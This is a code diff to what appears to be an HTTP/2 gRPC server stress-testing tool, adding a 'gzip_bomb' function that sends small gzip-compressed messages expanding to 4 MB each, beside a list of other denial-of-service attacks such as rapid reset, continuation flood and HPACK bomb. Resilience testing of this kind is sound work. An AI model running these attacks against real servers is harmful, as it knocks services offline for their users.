@@ -8,6 +8,7 @@ them the server ended: `{"made": n, "ended": n}`.
 """
 
 import contextlib
+import gzip
 import json
 import random
 import resource
@@ -259,6 +260,19 @@ def hpack_bomb(attack):
                 drain(peer)
 
 
+def gzip_bomb(attack):
+    """Messages of 4 KiB that unfold to 4 MiB."""
+    packed = gzip.compress(bytes(4_000_000), 9)
+    head = call_headers(CHECK, (b"grpc-encoding", b"gzip"))
+    body = http2.frame(http2.DATA, http2.END_STREAM, 0, struct.pack(">BI", 1, len(packed)) + packed)
+    while attack.goes_on():
+        with attack.peer() as peer:
+            for stream in attack.numbers(1, 2):
+                peer.send(http2.frame(http2.HEADERS, http2.END_HEADERS, stream, head))
+                peer.send(body[:5] + struct.pack(">I", stream) + body[9:])
+                drain(peer)
+
+
 def huge_headers(attack):
     fields = call_headers(CHECK, *((b"x-%d" % n, b"y" * 120) for n in range(100)))
     while attack.goes_on():
@@ -353,7 +367,7 @@ def handshake_storm(attack):
 ALL = [
     *(rapid_reset, made_you_reset, continuation_flood, ping_flood, settings_flood, empty_frame_flood),
     *(priority_flood, window_update_flood, unknown_frame_flood, zero_window, one_byte_window, unread_answers),
-    *(slow_preface, slow_headers, slow_body, hpack_bomb, huge_headers, idle_connections, churn, half_closed),
+    *(slow_preface, slow_headers, slow_body, hpack_bomb, gzip_bomb, huge_headers, idle_connections, churn, half_closed),
     *(watch_storm, garbage, smuggling),
 ]
 
